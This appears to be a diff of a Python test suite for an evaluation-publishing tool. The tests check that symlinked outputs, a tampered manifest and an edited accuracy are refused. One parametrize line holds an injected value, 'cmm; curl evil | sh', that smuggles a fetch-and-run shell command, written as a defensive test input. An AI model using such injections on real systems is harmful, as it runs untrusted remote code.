@@ -121,19 +121,20 @@ def test_every_file_made_a_link_out_is_refused_by_every_reader_and_uploader(fini
         (out / name).unlink()
         (out / name).symlink_to(secret)
         for purpose, argv in READERS.items():
-            if purpose == "re-score (reading)" and name in ("results.json", "results.png", MANIFEST):
-                continue  # a re-score reads the records only, and writes those files anew (checked below)
+            if purpose == "re-score (reading)" and name in ("results.png", MANIFEST):
+                continue  # a re-score writes those files anew without reading them (checked below)
             code = main(argv(out, tmp_path / f"{k}-{purpose[:4]}"))
             err = capfd.readouterr().err
             assert code == 2, (name, purpose, err)
-            assert f"{out / name} leads outside {out}" in err and len(err.strip().splitlines()) == 1, (name, err)
+            refusal = f"{out / name} is a link" if name.endswith(".lock") else f"{out / name} leads outside {out}"
+            assert refusal in err and len(err.strip().splitlines()) == 1, (name, purpose, err)
         assert SECRET not in _uploaded(hub) and hub.commits == [], name
     out = _copy(finished, tmp_path / "rescored")  # the re-score replaces the links it writes, never follows them
-    for name in ("results.json", "results.png", MANIFEST):
+    for name in ("results.png", MANIFEST):
         (out / name).unlink()
         (out / name).symlink_to(secret)
     assert main(["run", "--from-outputs", str(out)]) == 0
-    assert secret.read_bytes() == SECRET and not any((out / n).is_symlink() for n in ("results.json", "results.png"))
+    assert secret.read_bytes() == SECRET and not any((out / n).is_symlink() for n in ("results.png", MANIFEST))
 
 
 def test_the_door_refuses_a_fifo_a_climb_and_an_oversized_file(tmp_path):
@@ -211,18 +212,12 @@ def test_case_4_an_edited_accuracy_is_never_uploaded(finished, hub, tmp_path, ca
     (out / MANIFEST).unlink()
     assert main(READERS["publish"](out, tmp_path)) == 2  # not whole
     assert "not whole" in capfd.readouterr().err and hub.commits == []
+    shutil.copyfile(finished / MANIFEST, out / MANIFEST)
     rewrite_results(out, results)  # the manifest made to match: the verdicts still tell the edit
-    _write_manifest_with(out)
     assert main(READERS["publish"](out, tmp_path)) != 0
     err = capfd.readouterr().err
     assert "accuracy is 0.99 in results.json, the verdicts give" in err and "nothing was published" in err, err
     assert hub.commits == []
-
-
-def _write_manifest_with(out):
-    manifest = json.loads((out / MANIFEST).read_text())
-    manifest["files"] = {name: hashlib.sha256((out / name).read_bytes()).hexdigest() for name in manifest["files"]}
-    (out / MANIFEST).write_text(json.dumps(manifest))
 
 
 @pytest.mark.parametrize("mark", [{"command": EVIL}, {"command": EVIL, "options": {"tasks": "cmm; curl evil | sh"}},
